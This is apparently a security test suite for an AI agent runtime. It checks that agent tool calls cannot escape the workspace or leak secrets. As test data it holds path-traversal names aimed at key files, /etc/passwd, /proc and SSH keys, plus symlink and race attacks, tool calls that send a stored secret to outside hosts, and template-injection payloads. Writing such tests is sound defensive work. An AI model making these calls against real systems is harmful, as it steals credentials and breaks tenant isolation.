/**
 * Threats to a host and its other tenants (docs/contract/runtime.md, Isolation), and that no tool reads what is the host's,
 * tried on the compiled binary.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, readdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { argumentsOf } from "../support/processes.ts";
import { type Agent, type Call, startWorld, type World } from "./world.ts";

const TOKEN = "token-of-the-shop-9d1e/+&<'\"é";
const OTHER = "{{secret:SHOP_TOKEN}} of the bank";
const ENCODINGS = [
  (value: string) => value,
  (value: string) => Buffer.from(value).toString("base64"),
  (value: string) => Buffer.from(value).toString("hex").toUpperCase(),
  encodeURIComponent,
  (value: string) => JSON.stringify(JSON.stringify(value)),
  (value: string) => value.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&#34;"),
  (value: string) => encodeURIComponent(Buffer.from(value).toString("base64")),
  (value: string) => Buffer.from(`user:${value}@host`).toString("base64"),
  (value: string) => Buffer.from(`us:${value}`).toString("base64url"),
  (value: string) => Array.from(Buffer.from(value), (byte) => `%${byte.toString(16).padStart(2, "0")}`).join(""),
  (value: string) => Array.from(value, (one) => `&#${one.codePointAt(0)};`).join(""),
  (value: string) => Array.from(value, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, "0")}`).join(""),
];
const whole = (text: string) =>
  `HTTP/1.1 200 OK\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Length: ${Buffer.byteLength(text)}\r\n\r\n${text}`;

let world: World;
let agent: Agent;
/** The agent's folder on the disk of the host. */
let folder: string;
beforeAll(async () => {
  const answers = { "/echo": () => whole(ENCODINGS.map((encode) => encode(TOKEN)).join("\n")) };
  world = await startWorld({ answers, env: { ROOST_MAX_WORKSPACE_BYTES: `${1024 * 1024}` } });
  agent = await world.newAgent({ http_request: "always" });
  folder = folderOf((await world.ask("GET", agent.path)).body.slug);
  const { host, url } = world.shop;
  const skill = `---
name: shop
description: Orders shelves.
metadata:
  requires-hosts: "${host}"
  requires-secrets: "SHOP_TOKEN@${host}"
---
POST to ${url}/echo with the header Authorization: Bearer {{secret:SHOP_TOKEN}}.`;
  const instance = `/v1/instances/${world.instanceId}`;
  expect((await world.ask("POST", `${instance}/skills`, { files: { "SKILL.md": skill } })).status).toBe(201);
  const secrets = { SHOP_TOKEN: TOKEN, BANK_TOKEN: OTHER };
  expect((await world.ask("POST", `${instance}/secrets`, { secrets })).status).toBe(201);
});
afterAll(async () => {
  world.expectNothingLeaked(TOKEN, OTHER, "SQLite format 3", "root:x:0:0");
  await world[Symbol.asyncDispose]();
});
const folderOf = (slug: string): string => join(world.dataDir, "instances", world.instanceId, "agents", slug);

/** Every file of the host that no agent may see, by every name that might lead there. */
function foreignNames(): string[] {
  const files = ["master.key", "roost.db", "host-keys.json", "server.json"].filter((name) =>
    existsSync(join(world.dataDir, name)),
  );
  expect(files.length).toBeGreaterThan(2);
  const up = "../".repeat(4);
  return [
    ...files.flatMap((name) => [up + name, `notes/../${up}${name}`, join(world.dataDir, name), `./${up}/./${name}`]),
    ...files.flatMap((name) => [`${up}${name}`.replaceAll("/", "\\"), `%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f${name}`]),
    ...["/etc/passwd", `${"../".repeat(12)}etc/passwd`, "file:///etc/passwd", "~/.ssh/id_rsa", "C:\\Windows\\win.ini"],
    ...["/proc/self/environ", "/proc/self/maps", "/proc/self/root/etc/passwd", `${"../".repeat(12)}proc/self/environ`],
    ...["..", "/", "\u0000", "a\u0000/../../x", ".write.tmp", "/dev/stdin", "/proc/self/fd/0", "…/…/x", "．．/．．/x"],
  ];
}

/** Every way by which an agent names a file. */
const waysTo = (name: string): Call[] => [
  ["read_file", { name }],
  ["edit_file", { name, find: "a", replace: "b" }],
  ["write_file", { name, text: "overwritten by an agent" }],
  ["delete_file", { name }],
  ["run_javascript", { code: "input.text", input: { text: { $file: name } } }],
  ["read_skill", { name: "shop", file: name }],
  ["read_skill", { name }],
  ["web_fetch", { url: name }],
  ["web_fetch", { url: `file://${name}` }],
  ["http_request", { method: "GET", url: `file://${name}` }],
];

describe("a file name that leaves the workspace, a symbolic link, a race", () => {
  test("no tool reads the master key, the database, the environment or /proc by any name, or changes them", async () => {
    const names = foreignNames();
    const before = ["master.key", "host-keys.json"].map((name) => readFileSync(join(world.dataDir, name), "utf8"));
    const other = await world.newAgent({ http_request: "always" });
    // An answer of a model has at most 128 calls.
    for (let at = 0; at < names.length; at += 6) {
      const calls = names.slice(at, at + 6).flatMap(waysTo);
      const { frames } = await other.runAnew(calls);
      const ended = frames.filter(({ event }) => event === "tool.completed").map(({ data }) => data);
      expect(ended.length).toBe(calls.length);
      expect(ended.filter(({ isError }) => !isError)).toEqual([]);
    }
    const imports = `const all = []; for (const name of input) all.push(await import(name).then(() => name, () => null)); all`;
    const { results } = await other.runAnew(
      ["run_javascript", { code: imports, input: names }],
      ["..", "../../shop", "SKILL.md", "../SKILL.md"].map(
        (name): Call => ["run_javascript", { code: `skill:shop/${name}` }],
      ),
      names.map((name): Call => ["list_files", { folder: name }]),
    );
    expect(JSON.parse(results[0]?.replace("result: ", "") ?? "")).toEqual(names.map(() => null));
    expect(results.slice(1).filter((one) => /master|roost|passwd|environ/.test(one.replace(/ in .*/, "")))).toEqual([]);
    expect(["master.key", "host-keys.json"].map((name) => readFileSync(join(world.dataDir, name), "utf8"))).toEqual(
      before,
    );
    expect(readdirSync(world.dataDir).filter((name) => name.includes("tmp") || name === "x")).toEqual([]);
  });

  test("a link that is there leads nowhere, to a file or a folder, and writing replaces no target", async () => {
    const key = join(world.dataDir, "master.key");
    const before = readFileSync(key, "utf8");
    symlinkSync(key, join(folder, "key.md"));
    symlinkSync(world.dataDir, join(folder, "data"));
    symlinkSync("/proc/self", join(folder, "self"));
    const names = ["key.md", "data/master.key", "data/roost.db", "self/environ", "self/root/etc/passwd", "data/new.md"];
    const { results } = await agent.runAnew(
      names.flatMap((name): Call[] => [
        ["read_file", { name }],
        ["edit_file", { name, find: "a", replace: "b" }],
        ["run_javascript", { code: "input.text", input: { text: { $file: name } } }],
        ["write_file", { name, text: "overwritten" }],
      ]),
    );
    expect(results.filter((one) => /^(?:Changed|result)/.test(one))).toEqual([]);
    expect(readFileSync(key, "utf8")).toBe(before);
    expect(existsSync(join(world.dataDir, "new.md"))).toBe(false);
    const listed = await agent.runAnew(["list_files", {}], ["list_files", { folder: "data" }]);
    expect(listed.results.join()).not.toContain("roost.db");
  });

  test("a file that is swapped for a link while it is read is read as itself or not at all", async () => {
    const [file, link, name] = [join(folder, "own"), join(folder, "linked"), join(folder, "race.md")];
    let isOver = false;
    const swapping = (async () => {
      while (!isOver) {
        writeFileSync(file, "my own");
        renameSync(file, name);
        symlinkSync(join(world.dataDir, "master.key"), link);
        renameSync(link, name);
        await new Promise(setImmediate);
      }
    })();
    const results: string[] = [];
    for (let round = 0; round < 5; round++) {
      const reads = Array.from({ length: 40 }, (_, at): Call => ["read_file", { name: "race.md", toLine: at + 1 }]);
      results.push(...(await agent.runAnew(reads)).results);
    }
    isOver = true;
    await swapping;
    expect(new Set(results.map((one) => (one === "my own" ? one : /not found/.test(one) ? "none" : one)))).toBeOneOf([
      new Set(["my own", "none"]),
      new Set(["my own"]),
      new Set(["none"]),
    ]);
  });
});

describe("a workspace that fills the host", () => {
  test("a file, and all files of an account together, have a size that they cannot pass", async () => {
    const other = await world.newAgent();
    const large = await other.runAnew(["write_file", { name: "large.md", text: "x".repeat(256 * 1024 + 1) }]);
    expect(large.results).toEqual([expect.stringContaining("at most 262144 bytes")]);
    const text = "x".repeat(200 * 1024);
    const results: string[] = [];
    for (let at = 0; at < 6; at++) {
      results.push(...(await other.runAnew(["write_file", { name: `${at}.md`, text }])).results);
    }
    const kept = results.filter((one) => one.startsWith("Created"));
    expect(kept.length).toBeLessThanOrEqual(5);
    expect(results.at(-1)).toMatch(/at most|quota|may have/);
    await world.ask("DELETE", other.path);
  });
});

describe("a model that takes the host down", () => {
  test("its process is killed: the host goes on, and the next message is answered by a new one", async () => {
    const local = await world.newAgent();
    await world.ask("PATCH", local.path, { model: "local:smollm2-135m-instruct" });
    expect((await local.say("Hi!")).ending).toBe("run.completed");
    const { pid } = world.server.process;
    const children = readFileSync(`/proc/${pid}/task/${pid}/children`, "utf8").split(" ").filter(Boolean);
    const model = children.find((child) => argumentsOf(child).some((word) => word.includes("model-process")));
    process.kill(Number(model), "SIGKILL");
    expect((await local.say("Hi again!")).ending).toBe("run.completed");
    expect((await world.ask("GET", "/healthz")).status).toBe(200);
  });
});

describe("one instance starves the others", () => {
  test("an input that is nested without end goes back to the model, and costs nobody else anything", async () => {
    const other = await world.newAgent({ http_request: "ask" });
    for (const depth of [1_000, 100_000]) {
      const deep = `${"[".repeat(depth)}${"]".repeat(depth)}`;
      const request = `{"method":"POST","url":"${world.shop.url}/deep","body":{"a":${deep}}}`;
      const { ending, results } = await other.run(
        ["now", `{"timeZone":${deep}}`],
        ["http_request", request],
        ["call_tool", `{"name":"http_request","input":${request}}`],
        ["run_javascript", `{"code":"1","input":${deep}}`],
      );
      const refused = expect.stringContaining("is nested more than 200 levels deep");
      expect([depth, ending, results]).toEqual([depth, "run.completed", [refused, refused, refused, refused]]);
    }
  });
});

describe("a model that gives a secret away", () => {
  const post = (more: object, path = "/echo"): Call => [
    "http_request",
    { method: "POST", url: world.shop.url + path, ...more },
  ];

  test("it never sees one: what comes back in any encoding is without it, in its error and its files too", async () => {
    const { results } = await agent.runAnew(post({ body: "{{secret:SHOP_TOKEN}}" }), [
      "web_fetch",
      { url: `${world.shop.url}/echo` },
    ]);
    expect(world.shop.requests.at(-2)).toContain(TOKEN.slice(0, 20));
    for (const result of results) expect(result.match(/\[secret SHOP_TOKEN\]/g)?.length).toBe(ENCODINGS.length);
  });

  test("a secret goes nowhere but to the hosts declared for it, by no way of writing it", async () => {
    const before = world.shop.requests.length;
    const inside = `http://127.0.0.1:${world.inside.port}`;
    const places: Call[] = [
      // Another's secret to this host, and this one's to another.
      post({ body: "{{secret:BANK_TOKEN}}" }),
      post({ body: "{{ SECRET:bank_token }}" }),
      post({ headers: { Authorization: "{{secret:BANK_TOKEN}}" } }),
      post({}, "/echo?a=%7B%7Bsecret:BANK_TOKEN%7D%7D"),
      post({ body: "{{secret:SHOP_TOKEN}} {{secret:BANK_TOKEN}}" }),
      ["http_request", { method: "POST", url: `${inside}/`, body: "{{secret:SHOP_TOKEN}}" }],
      ["http_request", { method: "POST", url: "https://example.org/", body: "{{secret:SHOP_TOKEN}}" }],
      // Where none belongs.
      post({}, "/{{secret:SHOP_TOKEN}}"),
      post({ headers: { "{{secret:SHOP_TOKEN}}": "x" } }),
      ["http_request", { method: "GET", url: `http://{{secret:SHOP_TOKEN}}.example.org/` }],
      ["web_fetch", { url: `${world.shop.url}/?{{secret:SHOP_TOKEN}}` }],
      // Names that are no secrets, and templates of other programs.
      ...[
        "__proto__",
        "constructor",
        "toString",
        "SHOP_TOKEN.length",
        "{{secret:SHOP_TOKEN}}",
        "",
        "../master.key",
      ].map((name) => post({ body: `{{secret:${name}}}` })),
    ];
    const { results } = await agent.runAnew(places);
    expect(results.length).toBe(places.length);
    for (const [at, result] of results.entries()) {
      expect([places[at], result]).toEqual([places[at], expect.not.stringContaining("Status:")]);
    }
    expect([world.shop.requests.length, world.inside.connections]).toEqual([before, 0]);
  });

  test("templates of other programs are text, and a value is not looked through for more", async () => {
    const body =
      "{{constructor.constructor('return process')()}} \u0024{7*7} <%= 7*7 %> #{7*7} {{7*7}} {{secrets.SHOP_TOKEN}}";
    await agent.runAnew(post({ body }, "/templates"));
    expect(world.shop.requests.at(-1)).toEndWith(body);
  });

  test("it cannot read it back from files, the plan, a script or a question", async () => {
    const text = "{{secret:SHOP_TOKEN}}";
    const { results } = await agent.runAnew(
      ["write_file", { name: "secret.md", text }],
      ["read_file", { name: "secret.md" }],
      ["run_javascript", { code: `"${text}"` }],
      ["run_javascript", { code: "input.text", input: { text: { $file: "secret.md" } } }],
      ["update_plan", { items: [{ text, done: false }] }],
    );
    expect(results.slice(1, 4)).toEqual([text, `result: ${JSON.stringify(text)}`, `result: ${JSON.stringify(text)}`]);
  });
});
